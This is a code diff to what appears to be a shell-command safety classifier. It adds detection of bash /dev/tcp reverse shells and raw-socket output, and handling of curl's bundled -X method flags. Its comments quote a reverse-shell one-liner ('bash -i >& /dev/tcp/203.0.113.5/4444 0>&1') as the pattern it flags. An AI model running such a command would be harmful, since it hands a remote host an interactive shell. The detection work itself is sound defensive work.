@@ -152,9 +152,22 @@ export const DEV_ENV_FILE = /(?:^|\/)\.env\.(?:development|dev|local|test|testin
 /** cls-benign15: NAME=value where neither says credential. */
 export const PLAIN_SETTING = /^(?![A-Z0-9_]*(?:SECRET|TOKEN|KEY|PASS|PWD|CREDENTIAL|AUTH|PRIVATE|DSN|URL|URI|SALT|COOKIE|SESSION|CERT|USER|LOGIN))[A-Z][A-Z0-9_]*=(?:[\w.:/-]{0,40}|"[\w .:/-]{0,40}"|'[\w .:/-]{0,40}')$/;
 
+const SHELL_NAMES = new Set(['bash', 'sh', 'zsh', 'dash', 'ksh', 'fish', 'ash', 'busybox']);
+
 function redirectFindings(cmd: Cmd, emptyWrite: boolean): Finding[] {
   const out: Finding[] = [];
+  // (\`bash -i >& /dev/tcp/h/p\`: the lexer keeps a target written after a spaced \`>&\` as a word, so a shell's word naming
+  // a socket counts as that redirect.)
+  const socketWord = SHELL_NAMES.has(cmd.name) && cmd.args.some((x) => /^\/dev\/(?:tcp|udp)\/[^/\s]+\/\d+/.test(x)) && !cmd.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target));
+  if (socketWord) out.push(f(cmd.sudo ? 'forbidden' : 'dangerous', `hands a remote host an interactive shell on this machine (${snippet(cmd.text, 60)})`));
   for (const r of cmd.redirects) {
+    // (lead16) bash's /dev/tcp and /dev/udp: a socket to another host. A shell whose input and output go there is a
+    // remote shell handed to that host (`bash -i >& /dev/tcp/203.0.113.5/4444 0>&1`); any other output goes out to it.
+    if (/^\/dev\/(?:tcp|udp)\/[^/\s]+\/\d+/.test(r.target)) {
+      if (SHELL_NAMES.has(cmd.name)) out.push(f(cmd.sudo ? 'forbidden' : 'dangerous', `hands a remote host an interactive shell on this machine (${snippet(cmd.text, 60)})`));
+      else if (!r.op.startsWith('<')) out.push(f('dangerous', `sends output to another host over a raw socket (${r.target})`));
+      continue;
+    }
     if (r.op.startsWith('<')) continue;
     const k = pathKind(r.target);
     const append = r.op.includes('>>');
@@ -738,6 +751,13 @@ export function httpFromArgs(cmd: Cmd): HttpCall | null {
     }
     if (/^-X[A-Z]+$/.test(x)) {
       method = x.slice(2).toUpperCase();
+      explicit = true;
+      continue;
+    }
+    // (lead16) curl's short options bundled with -X last (`-sX DELETE`, `-fsSLX PATCH`) or with its value (`-sXDELETE`).
+    if (!isWget && !isHttpie && /^-[a-zA-Z]*[a-zA-WYZ][a-zA-Z]*X(?:[A-Z]+)?$/.test(x) && /^-[a-zA-Z]+$/.test(x)) {
+      const at = x.indexOf('X', 2);
+      method = (x.length > at + 1 ? x.slice(at + 1) : a[++i] ?? '').toUpperCase();
       explicit = true;
       continue;
     }
